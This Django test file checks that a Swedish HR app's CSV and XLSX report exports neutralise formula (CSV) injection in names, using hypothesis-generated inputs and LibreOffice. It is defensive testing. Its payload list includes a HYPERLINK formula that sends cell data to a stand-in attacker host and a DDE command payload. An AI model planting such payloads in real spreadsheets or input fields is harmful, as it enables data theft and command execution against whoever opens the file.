"""Formula injection (CSV injection) into HR's spreadsheets (issue #17, item 5).

A coach names a training group, an administrator a department, a staff list a person:
any of those names may begin with =, +, -, @, tab or carriage return. In every export, in
the table and in the filter headings at the top, such a name must reach HR's spreadsheet
as text: a leading ' in every file, and a text cell (never a formula) in the XLSX. Numbers
stay numbers. Checked with openpyxl over generated names, and with LibreOffice opening the
files as HR's office suite does.
"""

import csv
import io
import re
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.core.cache import cache
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from hypothesis.extra.django import TestCase

from programme.models import Theme
from reports.models import SickLeaveFigure
from reports.tables import TABLES
from sessions.models import Invitation, TrainingSession
from tests.factories import (
    CohortFactory,
    EnhetFactory,
    ForvaltningFactory,
    HRFactory,
    ManagerFactory,
    ProgrammeFactory,
)
from tests.support import libreoffice

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")',
    "=1+1",
    "@SUM(A1)",
    "-2+3",
    "+1+1",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]
FORMATS = ("csv", "xlsx")
PERIOD = {"since": "2027-01-01", "until": "2027-12-31"}
# What no cell of an XLSX file can hold (XML 1.0): the export leaves these out.
UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

# Names that begin like a formula, then anything a form could take (no NUL: PostgreSQL
# refuses it in text, Django's forms too).
formula_names = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(
        str.__add__,
        st.sampled_from(FORMULA_STARTS),
        st.text(
            st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30
        ),
    ),
)


def _world(names: list[str], email: str = "=1+1@kungsor.test") -> dict:
    """A förvaltning, its enhet, a programme, its training group, a theme and a manager,
    named `names` in that order, with a held session, an invitation and sick leave, so
    that every table has a row carrying a name."""
    forvaltning_name, enhet_name, programme_name, cohort_name, theme_name, person = names
    forvaltning = ForvaltningFactory(name=forvaltning_name)
    enhet = EnhetFactory(name=enhet_name, parent=forvaltning)
    manager = ManagerFactory(full_name=person, department=enhet, email=email)
    programme = ProgrammeFactory(name=programme_name)
    cohort = CohortFactory(name=cohort_name, programme=programme, members=[manager])
    theme = Theme.objects.get(slug="leda-sig-sjalv")
    Theme.objects.filter(pk=theme.pk).update(name=theme_name)
    starts_at = datetime(2027, 3, 10, 13, tzinfo=ZoneInfo("Europe/Stockholm"))
    session = TrainingSession.objects.create(
        programme=programme,
        cohort=cohort,
        theme=theme,
        format=TrainingSession.Format.THEORY,
        title="Träff",
        starts_at=starts_at,
        ends_at=starts_at + timedelta(hours=3),
        status=TrainingSession.Status.HELD,
    )
    Invitation.objects.create(
        session=session, user=manager, attendance=Invitation.Attendance.PRESENT
    )
    SickLeaveFigure.objects.create(
        department=enhet,
        month=date(2027, 3, 1),
        employees=20,
        scheduled_hours=3200,
        sick_hours=100,
    )
    return {
        "forvaltning": forvaltning,
        "enhet": enhet,
        "programme": programme,
        "cohort": cohort,
        "theme": theme,
    }


def _filtered(world: dict) -> dict:
    """Every filter chosen: each chosen name is written in the heading rows of the file."""
    return PERIOD | {name: obj.pk for name, obj in world.items()}


def _exports(client, params: dict) -> dict[tuple[str, str], bytes]:
    files = {}
    for table in TABLES:
        for fmt in FORMATS:
            response = client.get(reverse("reports:export", args=[table, fmt]), params)
            assert response.status_code == 200, (table, fmt, response.status_code)
            files[table, fmt] = response.content
    return files


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def _xlsx_cells(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def _neutralised(name: str, fmt: str = "csv") -> str:
    """The name as the file holds it. (An XLSX file is XML: a carriage return in it is
    read back as a line feed.)"""
    text = "'" + UNWRITABLE.sub("", name)
    return text.replace("\r\n", "\n").replace("\r", "\n") if fmt == "xlsx" else text


def _assert_safe(files: dict, names: list[str]) -> None:
    """No cell of any file begins like a formula, no XLSX cell is a formula, every name is
    there behind a ', and the figures are numbers."""
    texts = {"csv": [], "xlsx": []}
    for (table, fmt), content in files.items():
        if fmt == "csv":
            rows = _csv_cells(content)
            cells = [cell for row in rows for cell in row]
        else:
            rows = _xlsx_cells(content)
            formulas = [c.coordinate for row in rows for c in row if c.data_type == "f"]
            assert not formulas, (table, formulas)
            cells = [c.value for row in rows for c in row if isinstance(c.value, str)]
            # The attendance figures are still numbers (one invitation, one present).
            numbers = [c.value for row in rows for c in row if c.data_type == "n"]
            if table in ("forvaltningar", "enheter", "traningsgrupper", "chefer", "oversikt"):
                assert 1 in numbers, (table, numbers)
        live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert not live, (table, fmt, live)
        texts[fmt].append("\n".join(cells))
    for fmt, text in texts.items():
        everything = "\n".join(text)
        for name in names:
            assert _neutralised(name, fmt) in everything, (fmt, name)
    # The filter headings of each file, as a person reads them at the top.
    for (table, fmt), content in files.items():
        if fmt == "csv":
            headings = {row[0]: row[1] for row in _csv_cells(content)[1:7]}
        else:
            headings = {row[0].value: row[1].value for row in _xlsx_cells(content)[1:7]}
        for heading, name in zip(
            ("Förvaltning", "Enhet", "Program", "Träningsgrupp", "Tema"), names, strict=False
        ):
            assert headings[heading] == _neutralised(name, fmt), (table, fmt, heading)


class EveryExportNeutralisesFormulaNames(TestCase):
    @settings(
        max_examples=12,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(st.lists(formula_names, min_size=6, max_size=6, unique_by=str.lower))
    @example(PAYLOADS[:6])
    @example(PAYLOADS[2:])
    @example(["=a\x01b", "-\x1fx", "+ok", "@x", "\tx", "\ry"])  # no file can hold \x01
    def test_names_in_tables_and_headings(self, names):
        cache.clear()  # files are kept per filters (reports.cache): write them anew
        world = _world(names)
        self.client.force_login(HRFactory())

        files = _exports(self.client, _filtered(world))

        _assert_safe(files, names)
        # The table rows carry the names too (not only the headings).
        managers = _csv_cells(files["chefer", "csv"])
        assert [_neutralised(names[5]), "'=1+1@kungsor.test", "1", "1", "100,0"] in [
            row[:5] for row in managers
        ]
        groups = _xlsx_cells(files["traningsgrupper", "xlsx"])
        label = f"{names[2]}: {names[3]}"
        row = next(r for r in groups if r[0].value == _neutralised(label, "xlsx"))
        assert (row[0].data_type, row[1].value, row[1].data_type) == ("s", 1, "n")


@pytest.mark.django_db
def test_libreoffice_shows_formula_names_as_text_in_every_export(client, tmp_path):
    """HR's office suite opens each file: every name is shown as the text it is, nothing
    is calculated (=1+1 would show 2, and LibreOffice evaluates = in a CSV it opens)."""
    worlds = [
        _world([payload] * 6, email=f"-{index}@kungsor.test")
        for index, payload in enumerate(PAYLOADS)
    ]
    client.force_login(HRFactory())
    sources = {"csv": [], "xlsx": []}
    for params, suffix in ((PERIOD, "alla"), (_filtered(worlds[0]), "vald")):
        for (table, fmt), content in _exports(client, params).items():
            path = tmp_path / fmt / f"{table}-{suffix}.{fmt}"
            path.parent.mkdir(exist_ok=True)
            path.write_bytes(content)
            sources[fmt].append(path)

    shown_xlsx = libreoffice.convert(
        sources["xlsx"], f"csv:{libreoffice.CSV_FILTER}", tmp_path / "xlsx-shown"
    )
    opened_csv = libreoffice.convert(
        sources["csv"], "xlsx", tmp_path / "csv-opened", infilter=libreoffice.CSV_FILTER
    )

    shown = []
    for path in shown_xlsx:
        shown += [cell for row in _csv_cells(path.read_bytes()) for cell in row]
    for path in opened_csv:
        rows = _xlsx_cells(path.read_bytes())
        assert not [c.coordinate for row in rows for c in row if c.data_type == "f"], path.name
        shown += [c.value for row in rows for c in row if isinstance(c.value, str)]
    assert not [cell for cell in shown if cell.startswith(FORMULA_STARTS)]
    shown = [cell.replace("\r\n", "\n").replace("\r", "\n") for cell in shown]
    for payload in PAYLOADS:
        assert _neutralised(payload, "xlsx") in shown, payload
    assert "'=1+1 › =1+1" in shown  # the enhet named =1+1 in the förvaltning =1+1
